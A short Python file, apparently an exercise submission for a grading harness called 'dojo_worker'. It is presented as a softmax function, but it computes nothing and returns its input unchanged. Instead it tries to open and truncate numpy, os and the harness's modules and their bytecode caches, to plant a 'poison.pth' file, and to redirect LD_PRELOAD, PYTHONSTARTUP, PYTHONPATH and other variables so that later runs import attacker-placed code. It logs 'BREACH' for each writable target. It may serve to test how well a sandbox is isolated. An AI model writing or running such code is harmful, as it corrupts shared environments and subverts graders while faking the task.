"""Changes installed packages and their caches, so that the next imports something else.

exercise: 01
"""

import importlib.util
import os
import py_compile
import sys
import numpy as np


def softmax(scores, axis=-1):
    for module in (np, sys.modules["dojo_worker"], os, sys.modules["dojo_worker.wire"]):
        path = module.__file__
        cached = importlib.util.cache_from_source(path)
        for target in (path, cached, os.path.join(os.path.dirname(path), "poison.pth")):
            for flags in (os.O_WRONLY, os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_TRUNC):
                try:
                    os.close(os.open(target, flags))
                    print("BREACH:", target)
                except OSError:
                    pass
        try:
            py_compile.compile(path, cfile=cached, doraise=True)
            print("BREACH:", cached)
        except (OSError, py_compile.PyCompileError):
            pass
    for name in ("LD_PRELOAD", "PYTHONSTARTUP", "PYTHONPATH", "KERAS_HOME", "HOME", "MPLCONFIGDIR", "OMP_NUM_THREADS"):
        os.environ[name] = os.path.join(os.getcwd(), "left")
    sys.path.insert(0, os.getcwd())
    sys.dont_write_bytecode = False
    return scores
